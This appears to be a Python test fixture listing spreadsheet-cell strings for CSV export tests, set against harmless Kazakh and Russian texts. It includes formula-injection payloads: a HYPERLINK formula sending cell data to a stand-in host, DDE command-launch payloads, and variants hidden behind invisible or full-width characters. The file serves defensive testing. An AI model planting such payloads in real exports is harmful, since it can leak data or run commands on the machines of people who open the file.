"""Cells the CSV tests try: text a spreadsheet would run as a formula, and text it would not."""

# What a petition title, a territory name or a reason could hold, in the spellings a spreadsheet reads
# as a formula: the OWASP characters, after whitespace or invisible characters it may strip, and the
# full-width and small forms that normalise (NFKC) to them.
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"Жеңілдік")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\t", "\r", "=", "-", "=Ауыл округі", "-Жол жөндеу",
    " =1", "   +1", "\n=1", "\r\n=1", "\x0b=1", "\x0c=1", "\x1c=1", "\x85=1", "\u00a0=1", "\u2003-1", "\u3000@SUM(1)",
    "\u2028=1", "\u2029=1", "\u200b=1", "\u200c+1", "\u200d-1", "\u2060=1", "\ufeff=1", "\u200e=1", "\u200f@x",
    "\u202e=1", "\u2066=1", "\u00ad=1", "\u180e=1", "\u3164=1", "\u115f=1", " \u200b\t=1", "\u2800=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫1", "\u22121+1",
]
TEXTS = ["Ауыл көшесін жөндеу", "Дорога - в селе", "5 = 5", "a@b.kz", "село Кенес", "", "'=1", "1-2", "Жол\n=1"]
